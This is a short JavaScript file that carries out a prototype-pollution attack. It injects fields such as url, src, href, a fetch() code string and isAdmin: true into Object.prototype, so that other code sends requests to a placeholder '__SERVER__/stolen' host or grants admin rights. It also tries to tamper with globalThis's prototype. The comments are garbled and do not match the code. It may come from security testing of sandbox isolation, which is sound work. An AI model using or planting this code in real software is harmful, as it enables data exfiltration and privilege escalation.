// Gives every object the fields that a careless reader of messages would look for.
// says: Keeps 10 in flight: a window of 10.
function attempt() {
  const fields = {
    url: "__SERVER__/stolen?pollution",
    endpoint: "__SERVER__/stolen?{id}",
    src: "__SERVER__/stolen?pollution-src",
    href: "__SERVER__/stolen?pollution-href",
    code: "fetch('__SERVER__/stolen?pollution-code')",
    mode: "no-cors",
    latency: 0,
    error: "stolen",
    isAdmin: true,
  };
  for (const [name, value] of Object.entries(fields)) {
    try {
      Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true });
    } catch {
      // frozen
    }
  }
  try {
    Object.setPrototypeOf(globalThis, { __proto__: Object.getPrototypeOf(globalThis), stolen: 1 });
    JSON.parse('{"__proto__": {"stolen": true}}');
  } catch {
    // immutable
  }
}
